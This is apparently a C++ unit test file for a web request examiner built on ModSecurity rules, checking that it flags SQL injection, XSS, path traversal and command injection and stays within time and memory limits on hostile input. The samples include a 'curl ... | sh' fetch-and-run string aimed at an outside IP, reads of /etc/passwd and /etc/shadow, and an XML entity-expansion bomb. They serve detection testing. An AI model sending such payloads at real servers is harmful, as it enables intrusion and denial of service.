// SPDX-License-Identifier: Apache-2.0
#include "agent/payload/examiner.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/resource.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include <chrono>
#include <fstream>
#include <thread>

#include "agent/payload/pattern_limits.hpp"
#include "agent/payload/rule_files.hpp"

// libmodsecurity leaves a buffer of its scanner behind when it has read the rules, once.
extern "C" const char* __lsan_default_suppressions() { return "leak:libmodsecurity.so"; }

namespace tidegate::payload {
namespace {

// Sanitizers keep what was freed.
#if defined(__SANITIZE_ADDRESS__)
constexpr bool kMemoryTells = false;
#else
constexpr bool kMemoryTells = true;
#endif

using inspect::kAttackCommand;
using inspect::kAttackSql;
using inspect::kAttackTraversal;
using inspect::kAttackXss;
using ::testing::HasSubstr;

constexpr const char* kRules = "/usr/share/modsecurity-crs/rules";

struct Sent {
  std::string method = "GET";
  std::string target = "/";
  std::string type = {};  // of the body
  std::string body = {};
  std::vector<std::pair<std::string, std::string>> more = {};
};

class ExaminerTest : public ::testing::Test {
 protected:
  // Once for all: reading the rules is what takes time.
  static Examiner& examiner() {
    static Result<Examiner> loaded = Examiner::load(kRules);
    if (!loaded) throw std::runtime_error(loaded.error().message);
    return *loaded;
  }
  void SetUp() override {
    const auto there = configuration(kRules);
    if (!there) GTEST_SKIP() << there.error().message;
  }

  static Verdict examine(const Sent& sent) {
    inspect::wire::PayloadMessage request;
    request.summary.method = sent.method;
    request.target = sent.target;
    request.body = sent.body;
    request.fields = {{"host", "shop.example"},
                      {"user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
                      {"accept", "text/html,application/xhtml+xml,*/*;q=0.8"},
                      {"cookie", "sid=0123456789abcdef0123456789abcdef; theme=dark"}};
    if (!sent.type.empty()) request.fields.emplace_back("content-type", sent.type);
    for (const auto& [name, value] : sent.more) request.fields.emplace_back(name, value);
    return examiner().examine(request);
  }
  static unsigned attacks(const Sent& sent) {
    const Verdict verdict = examine(sent);
    EXPECT_FALSE(verdict.failed);
    return verdict.attacks;
  }
  static Sent form(const std::string& body) {
    return {.method = "POST", .type = "application/x-www-form-urlencoded", .body = body};
  }
  static Sent json(const std::string& body) { return {.method = "POST", .type = "application/json", .body = body}; }
};

TEST_F(ExaminerTest, NamesWhatIsAttempted) {
  EXPECT_EQ(attacks({.target = "/items?id=1%20UNION%20SELECT%20user,password%20FROM%20users--"}), kAttackSql);
  EXPECT_EQ(attacks({.target = "/items?id=1'%20AND%20SLEEP(5)--%20-"}) & kAttackSql, kAttackSql);
  EXPECT_EQ(attacks({.target = "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"}), kAttackXss);
  EXPECT_EQ(attacks({.target = "/f?name=../../../../etc/shadow"}) & kAttackTraversal, kAttackTraversal);
  EXPECT_EQ(attacks({.target = "/static/..%2f..%2f..%2fetc/hosts"}) & kAttackTraversal, kAttackTraversal);
  EXPECT_EQ(attacks({.target = "/p?host=1.1.1.1;cat%20/etc/passwd"}) & kAttackCommand, kAttackCommand);
  EXPECT_EQ(attacks({.target = "/p?x=$(curl+http://198.51.100.7/x|sh)"}) & kAttackCommand, kAttackCommand);
  EXPECT_EQ(attacks({.target = "/i?page=http://198.51.100.7/shell.txt?"}) & kAttackTraversal, kAttackTraversal);
}

TEST_F(ExaminerTest, LooksWhereClientsPutThings) {
  const std::string injection = "x' OR '1'='1' UNION SELECT 1,2,3 FROM users-- -";
  EXPECT_EQ(attacks(form("user=" + injection)), kAttackSql);
  EXPECT_EQ(attacks(json("{\"user\": {\"name\": [\"" + injection + "\"]}}")), kAttackSql);
  EXPECT_EQ(attacks({.method = "POST", .type = "application/vnd.api+json", .body = "{\"a\":\"" + injection + "\"}"}),
            kAttackSql);
  EXPECT_EQ(attacks({.method = "POST", .type = "text/xml", .body = "<a><b>" + injection + "</b></a>"}), kAttackSql);
  EXPECT_EQ(
      attacks({.method = "POST",
               .type = "multipart/form-data; boundary=XX",
               .body = "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + injection + "\r\n--XX--\r\n"}),
      kAttackSql);
  EXPECT_EQ(attacks({.more = {{"cookie", "cart=" + injection}}}), kAttackSql);
  EXPECT_EQ(attacks({.more = {{"user-agent", "<script>alert(1)</script>"}}}), kAttackXss);
}

// A body of which only the beginning was kept is read as far as it goes.
TEST_F(ExaminerTest, ACutBodyIsReadAsFarAsItGoes) {
  EXPECT_EQ(attacks(json("{\"user\": \"1' UNION SELECT a,b FROM users-- -\", \"rest\": \"aaaa")), kAttackSql);
  EXPECT_EQ(attacks(form("q=<script>alert(document.cookie)</script>&rest=aa")), kAttackXss);
}

TEST_F(ExaminerTest, SparesWhatOnlyLooksStrange) {
  EXPECT_EQ(attacks({.target = "/people?name=O%27Brien&town=L%27Aquila&note=it%27s+fine"}), 0U);
  EXPECT_EQ(attacks({.target = "/search?q=select+a+table+from+the+catalogue&sort=price-asc"}), 0U);
  EXPECT_EQ(
      attacks(json("{\"name\": \"O'Brien\", \"note\": \"5 > 3 & 2 < 4; that's all\", \"tags\": [1, 2, null, true]}")),
      0U);
  EXPECT_EQ(attacks(form("email=a.b%2Bc@example.org&password=Xk9%24v%21mQ2&remember=on")), 0U);
  EXPECT_EQ(attacks({.more = {{"cookie", "s=" + std::string(3000, 'a') + "; cart=%7B%22items%22%3A%5B1%2C2%5D%7D"}}}),
            0U);
  EXPECT_EQ(attacks({.more = {{"authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl"}}}), 0U);
}

// What an attacker would send to keep the examiner busy. The bound is generous: other programs run beside this one.
TEST_F(ExaminerTest, HostileInputCostsLittleTimeAndMemory) {
  const auto repeated = [](const std::string& piece, std::size_t size) {
    std::string text;
    while (text.size() < size) text += piece;
    return text;
  };
  std::vector<Sent> hostile;
  for (const char* piece :
       {"' or ''=''-- <scr onx=", "a", "select%20", "(((((\"'", "\t /**/", "%25%32%35", "../", "${${", "`;|"}) {
    hostile.push_back(form("x=" + repeated(piece, inspect::kMostPayloadBody - 2)));
  }
  hostile.push_back(json(repeated("{\"a\":", 32'000)));
  hostile.push_back(json(repeated("[", 32'000)));
  hostile.push_back(json("[" + repeated("1,", 32'000) + "1]"));
  hostile.push_back(form(repeated("a=b&", 32'000)));
  hostile.push_back(
      {.method = "POST", .type = "multipart/form-data; boundary=X", .body = repeated("--X\r\n\r\n", 32'000)});
  hostile.push_back({.method = "POST",
                     .type = "text/xml",
                     .body = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"" + std::string(4000, 'a') +
                             "\"><!ENTITY b \"" + repeated("&a;", 900) + "\"><!ENTITY c \"" + repeated("&b;", 900) +
                             "\">]><l>" + repeated("&c;", 900) + "</l>"});
  hostile.push_back({.method = "POST", .type = "text/xml", .body = repeated("<a>", 32'000)});
  hostile.push_back({.target = "/" + repeated("../", 15'000)});
  hostile.push_back({.more = std::vector<std::pair<std::string, std::string>>(120, {"x-a", std::string(130, '<')})});
  rusage before{};
  getrusage(RUSAGE_SELF, &before);
  std::chrono::nanoseconds longest{0};
  for (int round = 0; round < 2; ++round) {
    for (const Sent& sent : hostile) {
      const auto began = std::chrono::steady_clock::now();
      examine(sent);
      const auto took = std::chrono::steady_clock::now() - began;
      longest = std::max<std::chrono::nanoseconds>(longest, took);
      EXPECT_LT(took, std::chrono::seconds(3))
          << sent.type << " " << sent.body.substr(0, 20) << sent.target.substr(0, 10);
    }
  }
  rusage after{};
  getrusage(RUSAGE_SELF, &after);
  if (kMemoryTells) {
    EXPECT_LT(after.ru_maxrss - before.ru_maxrss, 100'000) << "kB";
  }
  RecordProperty("longest_ms", std::to_string(longest / std::chrono::milliseconds(1)));
  std::printf("longest: %lld ms\n", static_cast<long long>(longest / std::chrono::milliseconds(1)));
}

TEST_F(ExaminerTest, AnyBytesAreTaken) {
  std::string bytes;
  for (int i = 0; i < 256; ++i) bytes.push_back(static_cast<char>(i));
  for (const Sent& sent :
       {Sent{.method = bytes, .target = bytes}, Sent{.method = "", .target = ""},
        Sent{.type = bytes, .body = bytes, .more = {{bytes, bytes}, {"", ""}}}, form(bytes), json(bytes)}) {
    EXPECT_FALSE(examine(sent).failed);
  }
}

// What others do on the host changes no result: time in which this thread does not run is not counted.
TEST(PatternTime, IsThatOfTheThreadAlone) {
  constexpr std::chrono::milliseconds kMost{5};
  const auto used = [] {
    timespec now{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &now);
    return std::chrono::seconds(now.tv_sec) + std::chrono::nanoseconds(now.tv_nsec);
  };
  int error = 0;
  PCRE2_SIZE offset = 0;
  pcre2_code* const code = pcre2_compile(reinterpret_cast<PCRE2_SPTR>("a"), 1, 0, &error, &offset, nullptr);
  pcre2_match_data* const data = pcre2_match_data_create(1, nullptr);
  const auto match = [&] { return pcre2_match(code, reinterpret_cast<PCRE2_SPTR>("a"), 1, 0, 0, data, nullptr); };
  {
    const PatternTime time(kMost);
    std::this_thread::sleep_for(4 * kMost);
    EXPECT_EQ(match(), 1);
    EXPECT_FALSE(time.exceeded());
    for (const auto began = used(); used() - began < kMost;) {
    }
    EXPECT_EQ(match(), PCRE2_ERROR_MATCHLIMIT);
    EXPECT_TRUE(time.exceeded());
  }
  EXPECT_EQ(match(), 1) << "outside of it there is no bound";
  pcre2_match_data_free(data);
  pcre2_code_free(code);
}

TEST(RuleFiles, ThatAreMissingAreNamed) {
  const auto found = Examiner::load(::testing::TempDir());
  ASSERT_FALSE(found);
  EXPECT_EQ(found.error().code, ErrorCode::kNotFound);
  EXPECT_THAT(found.error().message, HasSubstr("install modsecurity-crs"));
  for (const char* path : {"relative", "", "/a b", "/a\nSecRuleEngine On", "/*"})
    EXPECT_FALSE(Examiner::load(path)) << path;
}

TEST(RuleFiles, ThatCannotBeReadAreNamed) {
  const std::filesystem::path directory = ::testing::TempDir() + "tg-broken-rules";
  std::filesystem::create_directories(directory);
  for (const char* name : {"REQUEST-901-INITIALIZATION.conf", "REQUEST-930-APPLICATION-ATTACK-LFI.conf",
                           "REQUEST-931-APPLICATION-ATTACK-RFI.conf", "REQUEST-932-APPLICATION-ATTACK-RCE.conf",
                           "REQUEST-933-APPLICATION-ATTACK-PHP.conf", "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
                           "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "REQUEST-944-APPLICATION-ATTACK-JAVA.conf"}) {
    std::ofstream(directory / name) << "SecNonsense here\n";
  }
  const auto found = Examiner::load(directory);
  ASSERT_FALSE(found);
  EXPECT_THAT(found.error().message, HasSubstr("cannot be used"));
  std::filesystem::remove_all(directory);
}

}  // namespace
}  // namespace tidegate::payload
